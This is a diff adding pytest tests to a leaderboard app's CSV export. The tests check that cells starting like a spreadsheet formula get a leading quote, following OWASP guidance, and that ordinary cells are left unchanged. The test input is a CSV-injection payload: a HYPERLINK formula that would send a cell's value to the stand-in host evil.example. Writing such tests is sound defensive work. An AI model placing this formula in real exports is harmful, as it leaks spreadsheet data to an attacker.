@@ -107,3 +107,26 @@ def test_it_takes_measures_from_the_page_checkboxes_too(client, board):
 
 def test_it_answers_head_requests(client, tiny_dataset):
     assert client.head(reverse("leaderboard:dataset", args=["tiny"])).status_code == 200
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_it_neutralises_csv_cells_that_start_like_a_formula(start):
+    """OWASP's rule: a cell starting with = + - @ tab or CR gets a leading quote, so it is text, not a formula."""
+    from boards.exports import to_csv
+    from boards.selectors import LeaderboardRow
+
+    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
+    row = LeaderboardRow(rank=1, kind="scored", submission_id=1, system=text, owner=text, family="other",
+                         paper_url="", code_url="", date=None, scores={"R@10": 0.5}, team=text)
+    parsed = next(csv.DictReader(io.StringIO(to_csv([row], measures=["R@10"]))))
+    for field in ("system", "owner", "team"):
+        assert parsed[field] == "'" + text
+    assert parsed["R@10"] == "0.5"  # numbers stay numbers
+
+
+def test_it_leaves_ordinary_csv_cells_alone():
+    from boards.exports import csv_cell
+
+    assert csv_cell("BM25 (k1=0.9)") == "BM25 (k1=0.9)"
+    assert csv_cell("") == ""
+    assert csv_cell(3) == 3
